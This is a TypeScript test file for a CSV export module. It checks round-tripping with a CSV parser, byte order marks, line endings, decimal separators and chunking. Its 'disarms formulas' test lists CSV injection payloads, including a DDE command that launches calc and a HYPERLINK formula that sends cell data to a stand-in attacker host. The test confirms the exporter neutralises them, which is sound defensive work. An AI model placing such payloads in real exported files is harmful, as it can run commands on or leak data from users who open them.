import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Cell, Columns } from '#lib/model/columns.ts';
import { chartColumns, guarded, toCsv, type CsvOptions } from '#lib/export/csv.ts';

async function written(columns: Columns, headers: readonly string[], options?: CsvOptions): Promise<string> {
  const bytes = await new Blob([...toCsv(columns, headers, options)]).arrayBuffer();
  return new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes);
}

const one = (cells: readonly Cell[]): Columns => ({ length: cells.length, names: ['a'], data: { a: cells } });
const lines = async (cells: readonly Cell[], options: CsvOptions = {}) =>
  (await written(one(cells), ['a'], { bom: false, header: false, ...options })).split('\r\n').slice(0, -1);

describe('CSV', () => {
  it('is read back as it was by a CSV reader that knows nothing of it', async () => {
    const piece = fc.constantFrom(
      '"',
      ',',
      ';',
      '\r\n',
      '\n',
      '\r',
      '\t',
      "'",
      '=',
      '-',
      'đối thoại',
      'Ế',
      '👍',
      ' ',
      '1'
    );
    const text = fc.oneof(
      fc.array(piece, { maxLength: 6 }).map((parts) => parts.join('')),
      fc.string({ unit: 'grapheme' })
    );
    const cell = fc.oneof(
      fc.constant(null),
      text,
      fc.integer(),
      fc.double({ noDefaultInfinity: true, noNaN: true })
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(cell, cell, cell), { maxLength: 12 }),
        fc.constantFrom(',' as const, ';' as const),
        async (rows, delimiter) => {
          const names = ['a', 'b', 'c'];
          const data = Object.fromEntries(names.map((name, i) => [name, rows.map((row) => row[i] ?? null)]));
          const file = await written({ length: rows.length, names, data }, ['Tiêu đề', 'x;y', '=z'], {
            delimiter
          });
          const { data: read, errors } = Papa.parse<string[]>(file, { delimiter, newline: '\r\n' });
          const asText = (value: Cell) =>
            value === null
              ? ''
              : typeof value === 'string'
                ? guarded(value)
                : String(value).replace('.', delimiter === ';' ? ',' : '.');
          expect(errors).toEqual([]);
          expect(read).toEqual([['Tiêu đề', 'x;y', "'=z"], ...rows.map((row) => row.map(asText)), ['']]);
        }
      ),
      { numRuns: 300 }
    );
  });

  it('begins with a byte order mark and ends every line with CRLF', async () => {
    expect(await written(one(['Đông Anh']), ['Xã'])).toBe('\ufeffXã\r\nĐông Anh\r\n');
    expect(await written(one([]), ['Xã'])).toBe('\ufeffXã\r\n');
    expect(await written(one([]), ['Xã'], { header: false, bom: false })).toBe('');
  });

  it('disarms formulas', async () => {
    const attacks = [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example?"&A1,"x")',
      '+1+cmd',
      '-2+3+cmd',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '＝1+1',
      '＋1+1',
      '－1-1',
      '＠SUM(1)',
      '- gạch đầu dòng',
      '-',
      '+',
      '-1-1',
      '+84 912 345 678'
    ];
    const { data } = Papa.parse<string[]>(await written(one(attacks), ['a'], { bom: false }), {
      delimiter: ',',
      newline: '\r\n',
      skipEmptyLines: true
    });
    expect(data.slice(1).map(([cell]) => cell)).toEqual(attacks.map((attack) => `'${attack}`));
  });

  it('leaves numbers and harmless text alone', async () => {
    const harmless = ['-5', '+5', '-1.5', '-1,234.5', '1e5', '-1E+5', 'a=b', "'x", '2024-05', 'Họp tổ 3'];
    expect(harmless.map(guarded)).toEqual(harmless);
    expect(await lines([-5, -0.25, 0, 1e21, NaN, Infinity, null])).toEqual([
      '-5',
      '-0.25',
      '0',
      '1e+21',
      '',
      '',
      ''
    ]);
  });

  it('writes decimals as the spreadsheet of the delimiter reads them', async () => {
    expect(await lines([0.123, -1.5, 12], { delimiter: ';' })).toEqual(['"0,123"', '"-1,5"', '12']);
    expect(await lines([0.123], { delimiter: ';', decimal: '.' })).toEqual(['0.123']);
  });

  it('comes in bounded chunks, however many rows', () => {
    const cells = Array.from({ length: 20_000 }, (_, i) => `hàng ${i}`);
    const sizes = [...toCsv(one(cells), ['a'])].map((chunk) => chunk.length);
    expect(sizes.length).toBeGreaterThan(4);
    expect(Math.max(...sizes)).toBeLessThan(100_000);
  });

  it('refuses headers that do not fit', () => {
    expect(() => [...toCsv(one([]), [])]).toThrow(RangeError);
  });

  it('holds the table behind a chart', async () => {
    const { columns, headers } = chartColumns({
      columns: [
        { label: 'Tháng', numeric: false },
        { label: 'Tháng', numeric: true }
      ],
      rows: [
        ['T1/2024', 3],
        ['T2/2024', null]
      ]
    });
    expect(await written(columns, headers, { bom: false })).toBe('Tháng,Tháng\r\nT1/2024,3\r\nT2/2024,\r\n');
  });
});
